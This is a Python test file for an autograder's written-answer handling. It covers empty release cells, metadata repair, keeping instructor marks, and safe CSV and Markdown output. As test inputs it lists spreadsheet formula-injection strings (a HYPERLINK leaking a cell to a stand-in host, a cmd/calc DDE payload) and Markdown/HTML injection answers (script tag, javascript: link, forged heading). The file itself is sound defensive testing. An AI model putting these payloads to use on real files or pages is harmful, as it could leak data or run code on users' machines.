"""Written questions: in every chapter, empty in the release, found again after a Colab download,
and marks an instructor gave kept when grading again; what is written about them (the CSVs, the
Markdown file) is data a spreadsheet or a Markdown viewer shows as text. The grading runs
themselves are in test_grader and test_grader_writes."""

import copy
import csv
import re

import nbformat
import pytest

from autograder.course import chapters, release_path, source_path
from autograder.repair import repair
from autograder.submissions import submission
from autograder.written import (
    ANSWER_LIMIT,
    STUB,
    answers,
    chapter_document,
    is_written,
    neutral,
    questions,
    read_rows,
    restored,
    totals,
    write_rows,
    write_written,
    written_rows,
)

HEADING = re.compile(r"^### Question (\d+) — .+ \((\d+) points?, written\)$", flags=re.MULTILINE)


@pytest.mark.parametrize("chapter", chapters())
def test_each_chapter_asks_written_questions_headed_with_their_points(chapter):
    found = questions(chapter)
    assert 2 <= len(found) <= 3, "two or three written questions a chapter"
    assert sum(points for _, points, _, _ in found) <= 4
    for number, (grade_id, points, question, model) in enumerate(found, start=1):
        heading = HEADING.search(question)
        assert heading, f"{grade_id}: the cell before the answer starts '### Question {number} — ... (P points, written)'"
        assert (int(heading.group(1)), int(heading.group(2))) == (number, points), heading.group(0)
        assert grade_id.startswith("written-"), grade_id
        rubric = re.findall(r"^- \*\*1 point\*\*", model, flags=re.MULTILINE)
        assert len(rubric) == points, f"{grade_id}: one rubric line ('- **1 point** ...') per point"


@pytest.mark.parametrize("chapter", chapters())
def test_the_release_leaves_an_empty_answer_cell(chapter):
    released = [c for c in nbformat.read(release_path(chapter), as_version=4).cells if is_written(c)]
    assert [c.source.strip() for c in released] == [STUB] * len(questions(chapter))
    text = release_path(chapter).read_text()
    for _, _, _, model in questions(chapter):
        longest = max(model.splitlines(), key=len)
        assert longest not in text


def test_an_answer_whose_cell_lost_its_metadata_is_still_found():
    chapter = chapters()[0]
    notebook = submission(chapter)
    expected = answers(notebook)
    for cell in notebook.cells:
        if is_written(cell):
            cell.metadata = {}  # as after some downloads and copies between notebooks
    repaired, repairs = repair(notebook, chapter)
    assert answers(repaired) == expected and all(expected.values())
    assert any("restored the grading metadata" in r for r in repairs)


def test_an_answer_cell_deleted_is_graded_as_not_answered():
    chapter = chapters()[0]
    notebook = submission(chapter)
    first = next(i for i, c in enumerate(notebook.cells) if is_written(c))
    del notebook.cells[first]
    repaired, repairs = repair(notebook, chapter)
    assert list(answers(repaired).values())[0] == ""
    assert any("re-inserted the deleted written answer" in r for r in repairs)


def test_grading_again_keeps_the_points_given_to_an_unchanged_answer():
    chapter = chapters()[0]
    first, second = [q for q, _, _, _ in questions(chapter)][:2]
    rows = [{"student": "ana", "chapter": chapter, "written": {first: "same", second: "new text"}}]
    previous = [{"student": "ana", "chapter": chapter, "question": first, "answer": "same", "points": "1"},
                {"student": "ana", "chapter": chapter, "question": second, "answer": "old", "points": "1"}]
    got = {r["question"]: r["points"] for r in written_rows(rows, previous)}
    assert got[first] == "1", "the same answer keeps its points"
    assert got[second] == "", "a changed answer is graded again"


@pytest.mark.parametrize("chapter", chapters())
def test_the_instructor_notebook_keeps_each_question_before_its_answer(chapter):
    cells = nbformat.read(source_path(chapter), as_version=4).cells
    for index, cell in enumerate(cells):
        if is_written(cell):
            assert cells[index - 1].cell_type == "markdown" and not is_written(cells[index - 1])
            assert cell.source.strip().startswith("### BEGIN SOLUTION"), "the model answer is between the markers"


FORMULAS = ["=HYPERLINK(\"http://x.test/?\"&A2, \"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "  =1+1", "'=1+1", "''-x", "\uff1dSUM(A1)"]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_csv_cell_a_spreadsheet_would_run_gets_a_quote_and_reads_back_as_written(value):
    written = neutral(value)
    assert written.startswith("'") and written[1:] == value
    assert restored(written) == value


@pytest.mark.parametrize("value", ["", "ana", "11", "0", "-1", "2.5", "-0.25", "1e-05", "'quoted", "a=b", "11/11"])
def test_text_and_numbers_are_written_as_they_are(value):
    assert neutral(value) == value and restored(value) == value


def test_a_cell_saved_back_by_a_spreadsheet_without_its_quote_reads_the_same():
    assert restored("=SUM(A1)") == "=SUM(A1)" == restored(neutral("=SUM(A1)"))


def test_every_csv_the_grader_writes_is_neutralised_and_read_back_whole(tmp_path):
    rows = [{"student": value, "chapter": "ch01_minmax", "score": 3, "answer": value} for value in FORMULAS]
    write_rows(tmp_path / "x.csv", ["student", "chapter", "score", "answer"], rows)
    with (tmp_path / "x.csv").open(newline="") as handle:
        raw = list(csv.DictReader(handle))
    for row in raw:
        assert row["student"].startswith("'") and row["answer"].startswith("'") and row["score"] == "3"
    assert read_rows(tmp_path / "x.csv") == [{**r, "score": "3"} for r in rows]


def grades_row(student, chapter, score=5, max_score=11):
    return {"student": student, "chapter": chapter, "score": score, "max_score": max_score, "written_max": 4,
            "status": "graded", "message": "", "per_test": "", "file": f"{student}_{chapter}.ipynb"}


GRADE_FIELDS = ["student", "chapter", "score", "max_score", "written_max", "status", "message", "per_test", "file"]


def test_totals_match_a_student_whose_name_is_a_formula(tmp_path):
    chapter = chapters()[0]
    ids = [q for q, _, _, _ in questions(chapter)]
    student = "=evil"
    write_rows(tmp_path / "grades.csv", GRADE_FIELDS, [grades_row(student, chapter), grades_row("ana", chapter)])
    rows = write_written(tmp_path, [{"student": student, "chapter": chapter, "written": dict.fromkeys(ids, "=1+1")},
                                    {"student": "ana", "chapter": chapter, "written": {}}])
    assert (tmp_path / "written.csv").read_text().count("'=evil") == len(ids)
    marked = [{**r, "points": "1"} for r in read_rows(tmp_path / "written.csv")]
    write_rows(tmp_path / "written.csv", list(rows[0]), marked)
    got = {r["student"]: r for r in totals(tmp_path)}
    assert got[student]["total"] == f"{5 + len(ids):g}" and not got[student]["missing"]
    assert "'=evil" in (tmp_path / "totals.csv").read_text()
    again = write_written(tmp_path, [{"student": student, "chapter": chapter,
                                      "written": dict.fromkeys(ids, "=1+1")}])
    assert [r["points"] for r in again] == ["1"] * len(ids), "points given to a formula-like answer are kept"


def test_a_huge_answer_is_cut_with_a_mark_and_breaks_neither_total_nor_the_next_run(tmp_path):
    chapter = chapters()[0]
    notebook = submission(chapter)
    cell = next(c for c in notebook.cells if is_written(c))
    cell.source = "x" * 210_000
    answer = answers(notebook)[cell.metadata["nbgrader"]["grade_id"]]
    assert answer.startswith("x" * ANSWER_LIMIT) and answer.endswith(f"[cut at {ANSWER_LIMIT} characters]")
    assert len(answer) < ANSWER_LIMIT + 100
    write_rows(tmp_path / "grades.csv", GRADE_FIELDS, [grades_row("ana", chapter)])
    huge = {"student": "ana", "chapter": chapter, "written": {cell.metadata["nbgrader"]["grade_id"]: "y" * 210_000}}
    write_written(tmp_path, [huge])  # as an old run without the cut left it
    assert [r["student"] for r in totals(tmp_path)] == ["ana"]
    assert write_written(tmp_path, [huge])[0]["answer"] == "y" * 210_000, "a later run reads the old CSV"


def markdown_sections(document):
    """``[(heading, [what follows it: (token type, content)])]`` of ``document`` as the MyST parser
    of the book (markdown-it-py) reads it; headings of level 4 only."""
    from markdown_it import MarkdownIt  # noqa: PLC0415 - jupyter-book's parser, only needed here

    tokens = MarkdownIt("commonmark").parse(document)
    sections = []
    for index, token in enumerate(tokens):
        if token.type == "heading_open" and token.tag == "h4":
            sections.append((tokens[index + 1].children[0].content if tokens[index + 1].children else "", []))
        elif sections and token.type in ("fence", "html_block", "html_inline", "inline") and token.level == 0:
            sections[-1][1].append((token.type, token.content))
    return sections, tokens


HOSTILE_ANSWERS = {
    "forger": "My answer.\n\n#### Student: victim\n\nA forged answer for the victim.\n\n<!--",
    "fencer": "Code:\n\n```\nx = 1\n```\n\n``````\n<script>document.title = 'ran'</script>\n~~~",
    "<b>tagged</b> *name* [x](javascript:alert(1)) <!--": "An honest answer.",
    "victim": "The victim's own answer.",
}


def test_each_answer_shows_as_text_under_its_own_students_name_and_hides_nothing():
    chapter = chapters()[0]
    grade_id = questions(chapter)[0][0]
    rows = [{"student": student, "chapter": chapter, "question": grade_id, "answer": answer}
            for student, answer in HOSTILE_ANSWERS.items()]
    sections, tokens = markdown_sections(chapter_document(chapter, rows))
    assert not [t for t in tokens if t.type in ("html_block", "html_inline") or "html" in t.type]
    shown = {heading: body for heading, body in sections if heading.startswith("Student: ")}
    assert list(shown) == [f"Student: {student}" for student in HOSTILE_ANSWERS], "one heading per student, in order"
    for student, answer in HOSTILE_ANSWERS.items():
        assert shown[f"Student: {student}"] == [("fence", answer + "\n")], student


def test_the_markdown_file_renders_with_every_answer_and_no_live_html(tmp_path):
    from markdown_it import MarkdownIt  # noqa: PLC0415

    chapter = chapters()[0]
    ids = [q for q, _, _, _ in questions(chapter)]
    grade_rows = [{"student": student, "chapter": chapter, "written": dict.fromkeys(ids, answer)}
                  for student, answer in HOSTILE_ANSWERS.items()]
    write_written(tmp_path, copy.deepcopy(grade_rows))
    page = MarkdownIt("commonmark").render((tmp_path / "written" / f"{chapter}.md").read_text())
    assert "<script" not in page and "<!--" not in page and "<b>" not in page
    assert page.count("A forged answer for the victim.") == len(ids)
    assert page.count("The victim&#x27;s own answer.") + page.count("The victim's own answer.") == len(ids)
